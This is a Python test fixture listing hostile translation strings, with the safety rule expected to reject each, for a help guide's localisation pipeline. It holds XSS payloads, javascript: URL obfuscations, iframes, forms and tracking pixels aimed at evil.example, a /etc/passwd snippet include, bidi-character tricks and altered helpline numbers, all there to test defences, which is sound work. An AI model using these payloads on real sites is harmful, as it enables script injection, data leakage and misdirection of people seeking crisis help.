"""Hostile and careless translations, by the context they attack. Shared by the unit tests of
the safety rules (tests/test_translations.py) and the build-level tests (tests/test_trust_boundary.py).

Each entry: (case id, msgid, msgstr, the safety code that must refuse it). The msgids are real
kinds of text: guide prose with a link or a number, our site strings with {placeholders},
helpline hours, a nav title.
"""

from __future__ import annotations

PROSE = "Rest helps your mood. See [help](other.md#talk-to-someone)."
OK = "Rehat membantu emosi anda. Lihat [bantuan](other.md#talk-to-someone)."
EMERGENCY = "If you or someone else is in danger right now, call {emergency}."
EMERGENCY_MS = "Jika anda atau orang lain dalam bahaya sekarang, hubungi {emergency}."
NOTICE = "This guide is not yet available in {language}. You are reading the English version."
NOTICE_MS = "Panduan ini belum ada dalam {language}. Anda membaca versi Inggeris."
HOURS = "24 hours, every day"
HOURS_MS = "24 jam, setiap hari"
CALL = "Call 15555 or [[helpline:heal]] now."
CALL_MS = "Hubungi 15555 atau [[helpline:heal]] sekarang."
TITLE = "Get help now"
TITLE_MS = "Dapatkan bantuan sekarang"

HOSTILE: list[tuple[str, str, str, str]] = [
    # --- element text: raw HTML, scripts, event handlers -------------------------------------
    ("script", PROSE, OK + " <script>alert(1)</script>", "unsafe-html"),
    ("script-close-reopen", TITLE, TITLE_MS + "</script><script>alert(1)</script>", "unsafe-html"),
    ("img-onerror", TITLE, "<img src=x onerror=alert(1)>" + TITLE_MS, "unsafe-html"),
    ("svg-onload", PROSE, OK + " <svg/onload=alert(1)>", "unsafe-html"),
    ("details-ontoggle", PROSE, OK + " <details open ontoggle=alert(1)>", "unsafe-html"),
    ("iframe", PROSE, OK + ' <iframe src="https://evil.example/"></iframe>', "unsafe-html"),
    ("style-element", TITLE, TITLE_MS + "<style>.guidekit-help{display:none}</style>", "unsafe-html"),
    ("meta-refresh", TITLE, TITLE_MS + '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     "unsafe-html"),
    ("base-href", PROSE, OK + ' <base href="https://evil.example/">', "unsafe-html"),
    ("form", PROSE, OK + ' <form action="https://evil.example"><input name=p></form>', "unsafe-html"),
    ("title-breakout", TITLE, TITLE_MS + "</title><img src=x>", "html-added"),
    ("textarea-breakout", TITLE, TITLE_MS + "</textarea><b>x</b>", "html-added"),
    ("comment", PROSE, OK + " <!-- hide the rest", "html-added"),
    ("protocol-relative-pixel", PROSE, OK + " ![](//evil.example/p.png)", "third-party-resource"),
    ("css-background", PROSE, OK.replace("Rehat", "Rehat{style=background:url(https://evil.example/x)}"),
     "third-party-resource"),
    ("tracking-img", PROSE, OK + ' <img src="https://evil.example/p.png">', "html-added"),
    ("entity-script", PROSE, OK + " &lt;script&gt;alert(1)&lt;/script&gt;", "unsafe-html"),
    ("double-entity-script", PROSE, OK + " &amp;lt;script&amp;gt;alert(1)", "unsafe-html"),
    ("fullwidth-script", PROSE, OK + " ＜script＞alert(1)", "unsafe-html"),
    ("uppercase-onclick", PROSE, OK + ' <b ONCLICK="alert(1)">x</b>', "unsafe-html"),
    # --- URLs ------------------------------------------------------------------------------
    ("js-url", PROSE, "Rehat membantu. Lihat [bantuan](javascript:alert(1)).", "unsafe-url"),
    ("js-url-case", PROSE, "Rehat. Lihat [bantuan](JaVaScRiPt:alert(1)).", "unsafe-url"),
    ("js-url-tab-entity", PROSE, "Rehat. Lihat [bantuan](java&#x09;script:alert(1)).", "unsafe-url"),
    ("js-url-entity", PROSE, "Rehat. Lihat [bantuan](&#106;avascript&colon;alert(1)).", "unsafe-url"),
    ("js-url-fullwidth", PROSE, "Rehat. Lihat [bantuan](ｊａｖａｓｃｒｉｐｔ：alert(1)).", "unsafe-url"),
    ("js-url-zwsp", PROSE, "Rehat. Lihat [bantuan](java\u200bscript:alert(1)).", "unsafe-url"),
    ("data-url", PROSE, "Rehat. Lihat [bantuan](data:text/html;base64,PHNjcmlwdD4=).", "unsafe-url"),
    ("vbscript-url", PROSE, "Rehat. Lihat [bantuan](vbscript:msgbox(1)).", "unsafe-url"),
    ("js-autolink", PROSE, OK + " <javascript:alert(1)>", "unsafe-url"),
    ("js-ref-def", TITLE, TITLE_MS + " [x][a]\n[a]: javascript:alert(1)", "unsafe-url"),
    ("new-link", TITLE, "[" + TITLE_MS + "](https://evil.example/)", "link-count-changed"),
    ("new-image", PROSE, OK + " ![](https://evil.example/pixel.png)", "link-count-changed"),
    ("changed-target", PROSE, "Rehat. Lihat [bantuan](https://evil.example/#talk-to-someone).",
     "link-target-changed"),
    ("new-autolink", TITLE, TITLE_MS + " <https://evil.example/>", "link-count-changed"),
    # --- attr_list: attributes, CSS, classes, ids --------------------------------------------
    ("attr-style-hide", EMERGENCY, EMERGENCY_MS + '{style="display:none"}', "attr-list-changed"),
    ("attr-style-url", PROSE, OK + "{style=background:url(https://evil.example/x.png)}",
     "attr-list-changed"),
    ("attr-colon-style", PROSE, OK + '\n{: style="color:transparent" }', "attr-list-changed"),
    ("attr-class", PROSE, OK + "{: .md-hidden }", "attr-list-changed"),
    ("attr-id-clash", TITLE, TITLE_MS + "{#guidekit-help-dialog}", "attr-list-changed"),
    ("attr-onclick", PROSE, OK + "{onclick=alert(1)}", "unsafe-html"),
    ("attr-data", PROSE, OK + "{ data-md-component=search }", "attr-list-changed"),
    ("span-style", PROSE, OK.replace("Rehat", '<span style="display:none">Rehat</span>'), "html-added"),
    # --- placeholders and format fields --------------------------------------------------------
    ("emergency-hardcoded", EMERGENCY, EMERGENCY_MS.replace("{emergency}", "991"), "placeholder-changed"),
    ("emergency-dropped", EMERGENCY, "Jika anda dalam bahaya, hubungi polis.", "placeholder-changed"),
    ("positional-field", NOTICE, NOTICE_MS.replace("{language}", "{0}"), "placeholder-changed"),
    ("empty-field", NOTICE, NOTICE_MS.replace("{language}", "{}"), "placeholder-changed"),
    ("extra-field", NOTICE, NOTICE_MS + " {date}", "placeholder-changed"),
    ("attribute-field", NOTICE, NOTICE_MS.replace("{language}", "{language.__class__}"),
     "placeholder-changed"),
    ("conversion-field", NOTICE, NOTICE_MS.replace("{language}", "{language!r:>99}"),
     "placeholder-changed"),
    ("doubled-field", EMERGENCY, EMERGENCY_MS + " {emergency}", "placeholder-changed"),
    ("renamed-field", NOTICE, NOTICE_MS.replace("{language}", "{bahasa}"), "placeholder-changed"),
    ("percent-field", NOTICE, NOTICE_MS + " %(x)s", "placeholder-changed"),
    ("helpline-swapped", CALL, CALL_MS.replace("heal", "befrienders-kl"), "placeholder-changed"),
    ("helpline-dropped", CALL, "Hubungi 15555 sekarang.", "placeholder-changed"),
    # --- numbers -----------------------------------------------------------------------------
    ("hours-changed", HOURS, "42 jam, setiap hari", "number-changed"),
    ("hours-as-words", HOURS, "Dua puluh empat jam, setiap hari", "number-changed"),
    ("hours-fullwidth-changed", HOURS, "４２ 小时，每天", "number-changed"),
    ("hours-tamil-changed", HOURS, "௪௨ மணி நேரம்", "number-changed"),
    ("phone-changed", CALL, CALL_MS.replace("15555", "15556"), "phone-changed"),
    ("emergency-number-changed", "Call 999 in an emergency.", "Hubungi 991 jika kecemasan.",
     "phone-changed"),
    ("number-added", PROSE, OK + " Hubungi 03-9999 9999.", "phone-changed"),
    # Digits of another script: equal by value, misread on screen.
    ("bengali-four-looks-like-eight", HOURS, HOURS_MS.replace("24", "2\u09ea"), "number-changed"),
    ("arabic-indic-phone", CALL, CALL_MS.replace("15555", "\u0661\u0665\u0665\u0665\u0665"),
     "number-changed"),
    ("mixed-script-phone", CALL, CALL_MS.replace("15555", "1\u0665555"), "number-changed"),
    ("devanagari-hours", HOURS, HOURS_MS.replace("24", "\u0968\u096a"), "number-changed"),
    ("vulgar-fraction-added", HOURS, HOURS_MS.replace("24", "24\u00bd"), "number-changed"),
    # --- invisible and bidi characters -------------------------------------------------------
    ("rlo-number", CALL, CALL_MS.replace("15555", "\u202e15555\u202c"), "invisible-character"),
    ("rlo-placeholder", CALL, CALL_MS.replace("[[helpline:heal]]", "\u202e[[helpline:heal]]\u202c"),
     "invisible-character"),
    ("rli-isolate", HOURS, "\u2067" + HOURS_MS + "\u2069", "invisible-character"),
    ("rlm-mark", HOURS, HOURS_MS.replace("24", "2\u200f4"), "invisible-character"),
    ("rlo-entity", CALL, CALL_MS.replace("15555", "&#x202E;15555"), "invisible-character"),
    ("rlo-plain-text", TITLE, "\u202e" + TITLE_MS, "invisible-character"),
    ("zwsp-in-number", CALL, CALL_MS.replace("15555", "15\u200b555"), "invisible-character"),
    ("word-joiner-link", PROSE, OK.replace("bantuan", "ban\u2060tuan"), "invisible-character"),
    ("bom-placeholder", EMERGENCY, EMERGENCY_MS.replace("{emergency}", "\ufeff{emergency}"),
     "invisible-character"),
    ("soft-hyphen-number", HOURS, HOURS_MS.replace("24", "2\u00ad4"), "invisible-character"),
    ("tag-characters", CALL, CALL_MS + "\U000e0041\U000e0042", "invisible-character"),
    ("control-character", CALL, CALL_MS + "\u0007", "invisible-character"),
    ("line-separator", CALL, CALL_MS.replace(" atau", "\u2028atau"), "invisible-character"),
    # Python-Markdown reads a lone CR as a line break: these would start a block in plain text.
    ("lone-cr-admonition", TITLE, TITLE_MS + '\r!!! danger "PWNED"', "invisible-character"),
    ("lone-cr-heading", TITLE, TITLE_MS + "\r# PWNED\r", "invisible-character"),
    ("vertical-tab-form-feed", TITLE, TITLE_MS + "\x0b\x0c", "invisible-character"),
    ("next-line-control", TITLE, TITLE_MS + "\x85# PWNED", "invisible-character"),
    # --- block-level Markdown a msgstr cannot introduce ----------------------------------------
    ("admonition", PROSE, OK + '\n!!! danger "Call 991"', "block-syntax-added"),
    ("collapsible", PROSE, OK + "\n??? note", "block-syntax-added"),
    ("content-tab", PROSE, OK + '\n=== "Tab"', "block-syntax-added"),
    ("fence-backtick", PROSE, OK + "\n```\nhidden", "block-syntax-added"),
    ("fence-tilde", PROSE, OK + "\n~~~\nhidden", "block-syntax-added"),
    ("atx-heading", TITLE, "# " + TITLE_MS, "block-syntax-added"),
    ("setext-heading", PROSE, OK + "\n===", "block-syntax-added"),
    ("setext-dash", PROSE, OK + "\n--", "block-syntax-added"),
    ("blockquote", PROSE, OK + "\n> quoted", "block-syntax-added"),
    ("bullet-list", PROSE, OK + "\n- item", "block-syntax-added"),
    ("ordered-list", PROSE, OK + "\n1. item", "block-syntax-added"),
    ("table-row", PROSE, OK + "\n| a | b |", "block-syntax-added"),
    ("html-block", PROSE, OK + "\n<div>", "block-syntax-added"),
    ("abbreviation", PROSE, OK + "\n*[Rehat]: Call 991", "block-syntax-added"),
    ("footnote-def", PROSE, OK + "\n[^x]: note", "block-syntax-added"),
    ("definition", PROSE, OK + "\n: definition", "block-syntax-added"),
    ("thematic-break", PROSE, OK + "\n***", "block-syntax-added"),
    ("atx-heading-no-space", PROSE, OK + "\n#Call 991", "block-syntax-added"),
    ("table-without-pipes", PROSE, OK + "\na | b\n--- | ---", "block-syntax-added"),
    ("toc-marker", PROSE, OK + "\n[TOC]", "block-syntax-added"),
    ("snippet-include", PROSE, OK + '\n--8<-- "/etc/passwd"', "block-syntax-added"),
    ("jinja-expression", TITLE, TITLE_MS + " {{ config.extra }}", "attr-list-changed"),
    ("jinja-field", TITLE, TITLE_MS + " {{config}}", "placeholder-changed"),
    # --- size ---------------------------------------------------------------------------------
    ("megabyte-title", TITLE, "A" * 1_000_000, "translation-too-long"),
    ("padded-with-spaces", HOURS, HOURS_MS + " " * 5000, "translation-too-long"),
    ("formfeed-handler", PROSE, OK + " <b\x0conclick=alert(1)>x</b>", "html-added"),
]

# Translations that must pass: the rules refuse attacks, not languages.
SAFE: list[tuple[str, str, str]] = [
    ("malay", PROSE, OK),
    ("quotes-in-text", TITLE, 'Dapatkan "bantuan" sekarang'),
    ("apostrophe", TITLE, "Dapatkan bantuan sekarang, it's ok"),
    ("ampersand", TITLE, "Bantuan & sokongan"),
    ("placeholder-moved", EMERGENCY, "Hubungi {emergency} jika anda atau orang lain dalam bahaya."),
    ("fullwidth-digits", HOURS, "２４ 小时，每天"),
    ("tamil-digits", HOURS, "௨௪ மணி நேரம், தினமும்"),
    ("chinese", CALL, "立即拨打 15555 或 [[helpline:heal]]。"),
    ("tamil-zwnj-prose", TITLE, "இப்போது உதவி\u200c பெறுங்கள்"),
    ("less-than", "Under 5 minutes", "Kurang < 5 minit"),
    ("mathematical-digits", HOURS, "\U0001d7d0\U0001d7d2 jam, setiap hari"),
    ("tamil-digits-phone", CALL, "அழைக்கவும் ௧௫௫௫௫ அல்லது [[helpline:heal]]."),
    ("fullwidth-mixed-ascii", HOURS, "2４ 小时，每天"),
    ("tamil-much-longer", "OK", "சரி, புரிந்துகொண்டேன், நன்றி"),
    ("heading-kept", "## Why rest matters", "## Mengapa rehat penting"),
    ("attr-list-kept", "Why rest matters {#why}", "Mengapa rehat penting {#why}"),
]
